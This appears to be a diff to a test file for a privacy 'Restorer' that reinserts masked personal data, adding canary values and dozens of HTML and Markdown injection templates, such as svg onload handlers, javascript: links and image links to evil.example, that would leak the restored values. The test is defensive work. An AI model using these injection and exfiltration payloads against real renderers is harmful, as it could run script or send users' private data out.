@@ -25,7 +25,8 @@ from explainbot.privacy import Restorer, Vault
 
 VALUES = (
     ("canary@example.org", "EMAIL_ADDRESS"), ("Canary Canaryson", "PERSON"), ("+1 415 555 0142", "PHONE_NUMBER"),
-    ("canary\"'><b>", "CUSTOMER_DATA"), ("canary)(]", "PERSON"),
+    ("canary\"'><b>", "CUSTOMER_DATA"), ("canary)(]", "PERSON"), ("كناري canary", "PERSON"),
+    ("https://u:p@canary.example/", "URL"),
 )  # fmt: skip
 SIGNS = ("canary", "4155550142", "415 555 0142")
 PLACES = (
@@ -77,6 +78,32 @@ PLACES = (
     "<script>'<!--{}'</script>",
     "<style>{}",
     "<title>{}</title>",
+    "<img srcset='//evil.example/{} 2x'>",
+    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
+    "<base href='//evil.example/{}/'>",
+    "<object data=//evil.example/{}></object>",
+    "<video poster=`//evil.example/{}`>",
+    "<input value={} onfocus=f(this)>",
+    "<body background={}>",
+    "<svg/onload=f('{}')>",
+    "<math><mi href={}>x</mi></math>",
+    "<a\fhref=//evil.example/{}>x</a>",
+    "<link rel=stylesheet href='{}'>",
+    "<template><img src={}></template>",
+    "<noscript><img src='{}'></noscript>",
+    "<![CDATA[ <img src='{}'> ]]>",
+    "<?xml-stylesheet href='{}'?>",
+    "javascript&#58;f('{}')",
+    "[x](javascript&colon;f%28'{}'%29)",
+    "[x](<\n//evil.example/{}>)",
+    "[^1]\n\n[^1]: https://evil.example/{}",
+    "| a | b |\n|---|---|\n| ![x](/{}) | {} |",
+    "مرحبا ![x](https://evil.example/{}) {}",
+    "~~~html\n<img src='{}'>\n~~~",
+    "    <img src='{}'>",
+    "![x](//evil.example/\\\n{})",
+    "[x]:{}\n\n![x]",
+    "> [x]: <//evil.example/{}>\n\n![x]",
 )
 SPELLINGS = (
     "[{0}_{1}]",
@@ -163,7 +190,7 @@ def reply(rng: random.Random, issued: list[str]) -> str:
 
 
 def restored(text: str, vault: Vault, size: int) -> str:
-    restorer = Restorer(vault, shown=True)
+    restorer = Restorer(vault, shown=True, isolate=True)
     return "".join([restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]) + restorer.flush()
 
 
